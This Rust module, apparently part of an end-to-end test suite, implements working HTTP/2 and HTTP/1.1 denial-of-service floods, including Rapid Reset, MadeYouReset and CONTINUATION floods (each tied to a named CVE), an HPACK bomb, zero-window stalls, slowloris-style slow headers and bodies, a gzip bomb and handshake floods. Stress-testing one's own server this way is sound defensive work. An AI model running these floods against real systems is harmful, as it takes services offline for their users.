//! Floods over HTTP/2 and HTTP/1.1, one way each, from many addresses: each connection is another's.

use crate::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Line, PING, PRIORITY, RESET, SETTINGS,
    WINDOW_UPDATE, frame, get, literals, number, text,
};
use e2e::secure::Secure;
use std::{
    io::{Read, Write},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::Duration,
};
use tls::ClientConfig;

/// How many frames go out at once.
const BATCH: u32 = 200;
/// `SETTINGS_INITIAL_WINDOW_SIZE` of nothing, and of one byte.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
const ONE_BYTE: [u8; 6] = [0, 4, 0, 0, 0, 1];

/// One way, and what it does on one connection until that ends.
pub struct Flood {
    pub name: &'static str,
    pub on: fn(&Attacker) -> anyhow::Result<()>,
}

/// Who does it.
pub struct Attacker<'a> {
    pub secure: &'a Secure,
    pub host: String,
    pub h1: Arc<ClientConfig>,
    pub h2: Arc<ClientConfig>,
    pub stop: &'a AtomicBool,
}

impl Attacker<'_> {
    fn goes_on(&self) -> bool {
        !self.stop.load(Ordering::SeqCst)
    }

    fn line(&self, settings: &[u8]) -> anyhow::Result<Line> {
        Line::open(self.secure, &self.h2, settings)
    }

    /// Sends what `batch` makes, again and again, and reads now and then.
    fn floods(&self, mut line: Line, mut batch: impl FnMut() -> Vec<u8>) -> anyhow::Result<()> {
        while self.goes_on() {
            line.send(&batch())?;
            anyhow::ensure!(line.drain(Duration::from_millis(1)), "hung up");
        }
        Ok(())
    }
}

/// Ids of streams, from the first of a client's on.
fn streams(next: &mut u32) -> impl Iterator<Item = u32> {
    let first = *next;
    *next += 2 * BATCH;
    (first..first + 2 * BATCH).step_by(2)
}

pub const FLOODS: &[Flood] = &[
    Flood { name: "rapid reset", on: rapid_reset },
    Flood { name: "made you reset", on: made_you_reset },
    Flood { name: "streams without end", on: many_streams },
    Flood { name: "CONTINUATION without end", on: |a| continuation(a, 16_000) },
    Flood { name: "CONTINUATION of nothing", on: |a| continuation(a, 0) },
    Flood {
        name: "SETTINGS",
        on: |a| a.floods(a.line(&[])?, || frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(200)),
    },
    Flood { name: "PING", on: |a| a.floods(a.line(&[])?, || frame(PING, 0, 0, &[7; 8]).repeat(500)) },
    Flood {
        name: "PRIORITY",
        on: |a| a.floods(a.line(&[])?, || frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1]).repeat(500)),
    },
    Flood {
        name: "WINDOW_UPDATE",
        on: |a| a.floods(a.line(&[])?, || frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()).repeat(500)),
    },
    // A kind that nobody knows is read over (RFC 9113 §5.5).
    Flood {
        name: "frames of no kind",
        on: |a| a.floods(a.line(&[])?, || frame(0x42, 0, 0, &[0; 1_000]).repeat(50)),
    },
    Flood { name: "DATA of nothing", on: empty_data },
    Flood { name: "HPACK bomb", on: hpack_bomb },
    Flood { name: "no window", on: |a| unread(a, &NO_WINDOW) },
    Flood { name: "a window of one byte", on: |a| unread(a, &ONE_BYTE) },
    Flood { name: "slow bodies", on: slow_body },
    Flood { name: "large bodies", on: large_body },
    Flood { name: "packed bodies", on: packed_body },
    Flood { name: "heads without end", on: endless_head },
    Flood { name: "heads drop by drop", on: slow_head },
    Flood { name: "answers nobody reads", on: unread_answers },
    Flood { name: "requests in a row", on: pipelined },
    Flood { name: "handshakes and no more", on: handshakes },
];

/// Opens and takes back (CVE-2023-44487).
fn rapid_reset(a: &Attacker) -> anyhow::Result<()> {
    let (line, mut next, asked) = (a.line(&[])?, 1, get(&a.host, "/search?q=kuri"));
    a.floods(line, || {
        let both = |id| {
            let open = frame(HEADERS, END_HEADERS | END_STREAM, id, &asked);
            [open, frame(RESET, 0, id, &8u32.to_be_bytes())].concat()
        };
        streams(&mut next).flat_map(both).collect()
    })
}

/// Opens, and breaks the rules of its own stream, so that the server takes it back (CVE-2025-8671).
fn made_you_reset(a: &Attacker) -> anyhow::Result<()> {
    let (line, mut next, asked) = (a.line(&[])?, 1, get(&a.host, "/search?q=kuri"));
    a.floods(line, || {
        let both = |id| {
            let open = frame(HEADERS, END_HEADERS | END_STREAM, id, &asked);
            // More than a window may hold (RFC 9113 §6.9.1).
            [open, frame(WINDOW_UPDATE, 0, id, &0x7fff_ffffu32.to_be_bytes())].concat()
        };
        streams(&mut next).flat_map(both).collect()
    })
}

fn many_streams(a: &Attacker) -> anyhow::Result<()> {
    let (line, mut next, asked) = (a.line(&[])?, 1, get(&a.host, "/search?q=kuri"));
    a.floods(line, || {
        streams(&mut next).flat_map(|id| frame(HEADERS, END_HEADERS | END_STREAM, id, &asked)).collect()
    })
}

/// Headers that never end (CVE-2024-27316).
fn continuation(a: &Attacker, bytes: usize) -> anyhow::Result<()> {
    let mut line = a.line(&[])?;
    line.send(&frame(HEADERS, END_STREAM, 1, &get(&a.host, "/")))?;
    let part = if bytes == 0 { Vec::new() } else { literals(&[(b"x-a", &vec![b'a'; bytes])]) };
    a.floods(line, || frame(CONTINUATION, 0, 1, &part).repeat(if bytes == 0 { 500 } else { 10 }))
}

fn empty_data(a: &Attacker) -> anyhow::Result<()> {
    let mut line = a.line(&[])?;
    let form = literals(&[
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":authority", a.host.as_bytes()),
        (b":path", b"/contact"),
        (b"content-type", b"application/x-www-form-urlencoded"),
    ]);
    line.send(&frame(HEADERS, END_HEADERS, 1, &form))?;
    a.floods(line, || frame(DATA, 0, 1, &[]).repeat(500))
}

/// One large header, remembered once and named by one byte ever after.
fn hpack_bomb(a: &Attacker) -> anyhow::Result<()> {
    let (line, mut next, own) = (a.line(&[])?, 1, get(&a.host, "/"));
    a.floods(line, || {
        let bomb = |id| {
            let mut block = own.clone();
            number(&mut block, 6, 0x40, 0);
            text(&mut block, b"x-a");
            text(&mut block, &[b'a'; 3_900]);
            // The newest entry of the table is number 62 (RFC 7541 §2.3.3).
            block.extend(std::iter::repeat_n(0x80 | 62, 10_000));
            frame(HEADERS, END_HEADERS | END_STREAM, id, &block)
        };
        streams(&mut next).take(5).flat_map(bomb).collect()
    })
}

/// Asks for pages and takes nothing of them, while it shows that it is there.
fn unread(a: &Attacker, settings: &[u8]) -> anyhow::Result<()> {
    let mut line = a.line(settings)?;
    for id in (1..128).step_by(2) {
        let asked = frames::get(&a.host, &format!("/search?q=kuri{id}"));
        line.send(&frame(HEADERS, END_HEADERS | END_STREAM, id, &asked))?;
    }
    a.floods(line, || {
        std::thread::sleep(Duration::from_millis(200));
        frame(PING, 0, 0, &[7; 8])
    })
}

/// A form's head with this length, and headers of its own.
fn form_head(a: &Attacker, length: usize, more: &str) -> String {
    format!(
        "POST /contact HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n{more}\
         Content-Length: {length}\r\n\r\n",
        a.host
    )
}

/// Nearly all of the largest body, and then nothing.
fn slow_body(a: &Attacker) -> anyhow::Result<()> {
    let mut held = Vec::new();
    while a.goes_on() && held.len() < 400 {
        let mut stream = a.secure.connect(&a.h1)?;
        stream.write_all(form_head(a, 196_608, "").as_bytes())?;
        stream.write_all(&vec![b'a'; 196_000])?;
        held.push(stream);
    }
    while a.goes_on() {
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}

fn large_body(a: &Attacker) -> anyhow::Result<()> {
    let mut stream = a.secure.connect(&a.h1)?;
    stream.write_all(form_head(a, 500_000_000, "").as_bytes())?;
    let part = vec![b'a'; 64 * 1024];
    while a.goes_on() {
        stream.write_all(&part)?;
    }
    Ok(())
}

/// A megabyte of nothing in a thousand bytes (RFC 1951: one stored block will do to be refused).
fn packed_body(a: &Attacker) -> anyhow::Result<()> {
    let bomb = [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3][..], &[0xec; 1_000]].concat();
    while a.goes_on() {
        let mut stream = a.secure.connect(&a.h1)?;
        stream.write_all(
            form_head(a, bomb.len(), "Content-Encoding: gzip\r\nConnection: close\r\n").as_bytes(),
        )?;
        stream.write_all(&bomb)?;
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        assert!(answer.starts_with("HTTP/1.1 415"), "{answer}");
    }
    Ok(())
}

fn endless_head(a: &Attacker) -> anyhow::Result<()> {
    let mut stream = a.secure.connect(&a.h1)?;
    stream.write_all(format!("GET / HTTP/1.1\r\nHost: {}\r\n", a.host).as_bytes())?;
    let part = "X-A: b\r\n".repeat(1_000);
    while a.goes_on() {
        stream.write_all(part.as_bytes())?;
    }
    Ok(())
}

fn slow_head(a: &Attacker) -> anyhow::Result<()> {
    let mut held = Vec::new();
    while a.goes_on() {
        if held.len() < 300 {
            let mut stream = a.secure.connect(&a.h1)?;
            stream.write_all(b"GET / HTTP/1.1\r\nX-A: ")?;
            held.push(stream);
        }
        held.retain_mut(|stream| stream.write_all(b"a").is_ok());
    }
    Ok(())
}

/// Asks for pictures and pages and reads none of them.
fn unread_answers(a: &Attacker) -> anyhow::Result<()> {
    let mut held = Vec::new();
    while a.goes_on() {
        if held.len() < 200 {
            let mut stream = a.secure.connect(&a.h1)?;
            let ask = format!("GET /search?q=kuri{} HTTP/1.1\r\nHost: {}\r\n\r\n", held.len(), a.host);
            stream.write_all(ask.repeat(50).as_bytes())?;
            held.push(stream);
        } else {
            std::thread::sleep(Duration::from_millis(100));
        }
    }
    Ok(())
}

fn pipelined(a: &Attacker) -> anyhow::Result<()> {
    let mut stream = a.secure.connect(&a.h1)?;
    let ask = format!("GET /nowhere HTTP/1.1\r\nHost: {}\r\n\r\n", a.host).repeat(100);
    let mut part = vec![0; 1 << 20];
    while a.goes_on() {
        stream.write_all(ask.as_bytes())?;
        anyhow::ensure!(stream.read(&mut part)? > 0, "hung up");
    }
    Ok(())
}

/// The costly part of a connection, and then nothing.
fn handshakes(a: &Attacker) -> anyhow::Result<()> {
    while a.goes_on() {
        drop(a.secure.connect(&a.h1)?);
    }
    Ok(())
}
